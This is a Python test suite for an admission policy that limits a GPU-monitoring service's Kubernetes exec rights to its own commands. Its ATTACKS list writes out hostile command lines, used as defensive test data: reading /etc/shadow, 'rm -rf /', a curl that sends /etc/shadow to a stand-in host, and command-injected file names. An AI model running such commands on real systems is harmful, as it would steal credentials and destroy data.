"""The exec admission policy against gpuid's real traffic and against what a stolen token would try.

gpuid's ServiceAccount may exec in the GPU Operator's pods; the policy in
deployment/components/exec-policy narrows that to gpuid's own command lines.
Here it is evaluated with CEL (``tests/support/execpolicy``) the way the API
server applies it: every command line gpuid runs is admitted (and the whole
suite runs under it, see ``tests/conftest.py``), every attack is denied with
a message naming the policy, and every other user is untouched.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from kubernetes_asyncio import client
from kubernetes_asyncio.config import load_kube_config
from kubernetes_asyncio.stream import WsApiClient

from gpuid.kube.client import connect
from gpuid.sim import SERVICE_ACCOUNT, ConnectRecord
from gpuid.sim.admission import admission_request, connect_options
from gpuid.smi.commands import (
    LIST_COMMAND,
    XML_COMMAND,
    bug_report_command,
    checksum_command,
    cleanup_command,
    download_command,
)
from tests.support.app import A100_MIG, Sim, add_driver_node, add_gpu_node, eventually, running_app
from tests.support.execpolicy import PROGRAMS, ExecTally, shipped_policy

NAME = "nvidia-bug-report-gpu-node-1-r1-20250101_120000.log"  # what report_name() makes
NS, DRIVER, DEVICE_PLUGIN = "gpu-operator", "nvidia-driver-ctr", "nvidia-device-plugin"
SCRIPT = XML_COMMAND[2]


def decide(
    command: list[str],
    *,
    container: str | None = DRIVER,
    namespace: str = NS,
    user: str = SERVICE_ACCOUNT,
    subresource: str = "exec",
    **streams: bool,
) -> str | None:
    """The shipped policy's answer to one request: None (admitted) or the denial message."""
    query = {"stdout": "true", "stderr": "true", **{k: str(v).lower() for k, v in streams.items()}}
    if container is not None:
        query["container"] = container
    options = connect_options(subresource, query, command)
    return shipped_policy().admit(admission_request(user, namespace, "pod", subresource, options), options)


GPUIDS_OWN = {
    "nvidia-smi -q -x": XML_COMMAND,
    "nvidia-smi -L": LIST_COMMAND,
    "nvidia-bug-report.sh": bug_report_command(NAME, 300),
    "nvidia-bug-report.sh with a 1 s limit": bug_report_command(NAME, 0.2),
    "checksum": checksum_command(NAME),
    "download": download_command(NAME),
    "clean-up": cleanup_command(NAME),
}


@pytest.mark.parametrize("container", [DEVICE_PLUGIN, DRIVER])
@pytest.mark.parametrize("what", GPUIDS_OWN)
def test_every_command_line_of_gpuid_is_admitted(what: str, container: str) -> None:
    assert decide(GPUIDS_OWN[what], container=container) is None


BAD_NAMES = ["../../etc/shadow", "x;id", "$(id)", "`id`", "a b", "x|sh", "x&&id", "x\nid", "/etc/shadow", ""]
REPORT = "nvidia-bug-report-{}-20250101_120000.log"
ATTACKS: dict[str, dict[str, Any]] = {
    "sh -c id": {"command": ["sh", "-c", "id"]},
    "a shell": {"command": ["sh"]},
    "nvidia-smi; cat /etc/shadow": {"command": ["sh", "-c", "nvidia-smi; cat /etc/shadow"]},
    "nvidia-smi -q -x && curl": {
        "command": ["sh", "-c", SCRIPT + " && curl -d @/etc/shadow https://x.invalid"]
    },
    "the XML command with an extra argument": {"command": [*XML_COMMAND, "extra"]},
    "the XML script with an extra flag": {"command": ["sh", "-c", SCRIPT + " -f /etc/shadow"]},
    "the XML script then a newline and id": {"command": ["sh", "-c", SCRIPT + "\nid"]},
    "nvidia-smi without the shell": {"command": ["nvidia-smi", "-q", "-x"]},
    "bash instead of sh": {"command": ["bash", *XML_COMMAND[1:]]},
    "no command": {"command": []},
    "in another container": {"command": XML_COMMAND, "container": "nvidia-container-toolkit-ctr"},
    "in the pod's default container": {"command": XML_COMMAND, "container": None},
    "in another namespace": {"command": XML_COMMAND, "namespace": "kube-system"},
    "with stdin": {"command": XML_COMMAND, "stdin": True},
    "with a TTY": {"command": XML_COMMAND, "tty": True, "stdin": True},
    "with a TTY alone": {"command": XML_COMMAND, "tty": True},
    "attach": {"command": [], "subresource": "attach"},
    "port-forward": {"command": [], "subresource": "portforward"},
    "cat /etc/shadow": {"command": ["cat", "/etc/shadow"]},
    "cat through /tmp/..": {"command": ["cat", "/tmp/../etc/shadow"]},
    "rm -rf /": {"command": ["rm", "-rf", "/"]},
    "rm -f / and a report": {"command": ["rm", "-f", "/", f"/tmp/{NAME}.gz"]},
    "the script with a shell for a time limit": {
        "command": ["sh", "-c", bug_report_command(NAME, 300)[2].replace("KILL 300 ", "KILL 1;id ")]
    },
    "the script with another output directory": {
        "command": ["sh", "-c", bug_report_command(NAME, 300)[2].replace("/tmp/", "/etc/")]
    },
    "the script then id": {"command": ["sh", "-c", bug_report_command(NAME, 300)[2] + "; id"]},
    "the checksum of another file": {"command": ["sh", "-c", "sha256sum /etc/shadow && wc -c /etc/shadow"]},
}
for bad in BAD_NAMES:
    path = f"/tmp/{REPORT.format(bad)}"
    ATTACKS[f"download of {bad!r}"] = {"command": ["cat", path + ".gz"]}
    ATTACKS[f"checksum of {bad!r}"] = {"command": ["sh", "-c", f"sha256sum {path}.gz && wc -c {path}.gz"]}
    ATTACKS[f"clean-up of {bad!r}"] = {"command": ["rm", "-f", path, path + ".gz"]}
    ATTACKS[f"a report named {bad!r}"] = {"command": ["cat", bad]}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_stolen_token_would_try_is_denied_naming_the_policy(attack: str) -> None:
    denied = decide(**ATTACKS[attack])
    assert denied is not None
    assert denied.startswith(
        "ValidatingAdmissionPolicy 'gpuid-exec' with binding 'gpuid-exec' denied request: "
    )
    assert "gpuid-exec: gpuid's ServiceAccount may" in denied


def test_the_attack_list_covers_what_it_names() -> None:
    assert len(ATTACKS) >= 60
    assert decide(**ATTACKS["attach"], user="system:serviceaccount:kube-system:debugger") is None


@pytest.mark.parametrize(
    "attack", ["sh -c id", "attach", "port-forward", "in another namespace", "with a TTY"]
)
@pytest.mark.parametrize(
    "user", ["kubernetes-admin", "system:serviceaccount:gpuid:other", "system:node:gpu-1"]
)
def test_every_other_user_is_untouched(attack: str, user: str) -> None:
    assert decide(**ATTACKS[attack], user=user) is None


async def test_gpuid_runs_each_of_its_command_lines_and_the_policy_admits_every_one(
    sim: Sim, tmp_path: Path
) -> None:
    """Scans (MIG too) and a requested bug report against a cluster that enforces the policy."""
    add_gpu_node(sim, "mig", A100_MIG)
    add_driver_node(sim, "gpu-node-1")
    env = {"BUG_REPORT_ENABLED": "true", "BUG_REPORT_DIR": str(tmp_path), "BUG_REPORT_TIMEOUT": "10s"}
    async with running_app(sim, **env) as run:
        await eventually(lambda: run.sample("gpuid_scans_total", result="success") == 2)
        clients = await connect(str(sim.kubeconfig))
        try:  # kubectl annotate node gpu-node-1 gpuid.io/bug-report-request=r1
            patch = {"metadata": {"annotations": {"gpuid.io/bug-report-request": "r1"}}}
            await clients.core.patch_node("gpu-node-1", patch, _content_type="application/merge-patch+json")
        finally:
            await clients.close()
        await eventually(
            lambda: run.sample("gpuid_bug_reports_total", trigger="request", result="success") == 1
        )
    records = list(sim.server.connect_log)
    assert {r.user for r in records} == {SERVICE_ACCOUNT}
    assert all(r.denied is None for r in records)
    assert all((r.namespace, r.subresource) == (NS, "exec") for r in records)
    assert all(r.stream("stdout") and r.stream("stderr") for r in records)
    assert not any(r.stream("stdin") or r.stream("tty") for r in records)
    assert {r.container for r in records} == {DEVICE_PLUGIN, DRIVER}
    tally = ExecTally()
    tally.check("this test", records)
    assert set(tally.kinds) == set(PROGRAMS)  # every kind of command line gpuid has, at least once


@pytest.mark.exec_policy_denials
async def test_gpuid_told_to_exec_elsewhere_is_refused_and_says_so(sim: Sim, log_output: Any) -> None:
    """CONTAINER set to a container the policy does not name: the scan fails with the API server's 403."""
    sim.cluster.add_node("n1", capture="gpuid-h100-sxm-x8")
    sim.cluster.add_pod("dp-n1", node="n1", containers=("nvidia-container-toolkit-ctr", DEVICE_PLUGIN))
    async with running_app(sim, CONTAINER="nvidia-container-toolkit-ctr") as run:
        await eventually(lambda: run.sample("gpuid_scans_total", result="exec_error") >= 1)
        assert run.memory.records == []
    records = list(sim.server.connect_log)
    assert records
    assert all(r.container == "nvidia-container-toolkit-ctr" for r in records)
    assert all("exec only in the device-plugin and driver containers" in (r.denied or "") for r in records)
    failures = [json.loads(line) for line in log_output.getvalue().splitlines()]
    assert any("exec refused by the API server: HTTP 403" in f.get("error", "") for f in failures)


@pytest.mark.exec_policy_denials
@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("exec", [("command", "sh"), ("command", "-c"), ("command", "id"), ("container", DEVICE_PLUGIN)]),
        ("exec", [*(("command", a) for a in XML_COMMAND), ("container", DEVICE_PLUGIN), ("stdin", "true")]),
        ("attach", [("container", DEVICE_PLUGIN), ("stdin", "true"), ("tty", "true")]),
        ("portforward", [("ports", "22")]),
    ],
)
async def test_the_simulated_api_server_refuses_a_stolen_token_with_the_policys_words(
    sim: Sim, path: str, query: list[tuple[str, str]]
) -> None:
    """What `kubectl exec` with gpuid's token gets: 403 Forbidden, naming the policy, before any upgrade."""
    add_gpu_node(sim, "n1")
    url = f"{sim.server.url}/api/v1/namespaces/{NS}/pods/dp-n1/{path}"
    headers = {"Authorization": f"Bearer {sim.server.token}"}
    async with aiohttp.ClientSession() as session, session.get(url, params=query, headers=headers) as resp:
        status = await resp.json()
    assert resp.status == 403
    assert status["reason"] == "Forbidden"
    assert status["message"].startswith("pods \"dp-n1\" is forbidden: ValidatingAdmissionPolicy 'gpuid-exec'")
    [record] = sim.server.connect_log
    assert (record.user, record.subresource) == (SERVICE_ACCOUNT, path)
    assert status["message"] == f'pods "dp-n1" is forbidden: {record.denied}'


@pytest.mark.exec_policy_denials
async def test_the_real_client_with_gpuids_kubeconfig_cannot_open_a_shell(sim: Sim) -> None:
    add_gpu_node(sim, "n1")
    config = client.Configuration()
    await load_kube_config(str(sim.kubeconfig), client_configuration=config)
    async with WsApiClient(config) as api:
        with pytest.raises(aiohttp.WSServerHandshakeError) as refused:
            await client.CoreV1Api(api).connect_get_namespaced_pod_exec(
                "dp-n1", NS, command=["sh", "-c", "id"], container=DEVICE_PLUGIN, stdin=True, tty=True
            )
    assert refused.value.status == 403
    [record] = sim.server.connect_log
    assert (record.command, record.stream("stdin"), record.stream("tty")) == (("sh", "-c", "id"), True, True)


async def test_another_user_still_gets_a_shell(sim: Sim) -> None:
    """The policy applies to gpuid's ServiceAccount only: an administrator's exec reaches the kubelet."""
    add_gpu_node(sim, "n1")
    token = sim.server.add_user("kubernetes-admin")
    url = f"{sim.server.url}/api/v1/namespaces/{NS}/pods/dp-n1/exec"
    query = [("command", "sh"), ("command", "-c"), ("command", "echo hi"), ("stdout", "true")]
    headers = {"Authorization": f"Bearer {token}"}
    protocols = ("v4.channel.k8s.io",)
    async with (
        aiohttp.ClientSession() as session,
        session.ws_connect(url, params=query, headers=headers, protocols=protocols) as ws,
    ):
        frames = [msg.data async for msg in ws]
    assert bytes([1]) + b"hi\n" in frames
    [record] = sim.server.connect_log
    assert (record.user, record.denied) == ("kubernetes-admin", None)


def test_a_denied_exec_of_gpuid_fails_the_test_it_happened_in() -> None:
    """The suite-wide check is real: one denied request of gpuid's ServiceAccount is a failure."""
    denied = ConnectRecord(SERVICE_ACCOUNT, NS, "p", "exec", {"command": ["sh"]}, denied="no")
    admitted = ConnectRecord(SERVICE_ACCOUNT, NS, "p", "exec", {"command": XML_COMMAND}, denied=None)
    someone_else = ConnectRecord("alice", NS, "p", "exec", {"command": ["sh"]}, denied="no")
    tally = ExecTally()
    tally.check("fine", [admitted, someone_else])
    assert (tally.admitted, tally.kinds) == (1, {"nvidia-smi -q -x": 1})
    with pytest.raises(pytest.fail.Exception, match="denied 1 of gpuid's requests in broken"):
        tally.check("broken", [admitted, denied])
    tally.check("on purpose", [denied], denials_expected=True)
    assert tally.denied_on_purpose == 1
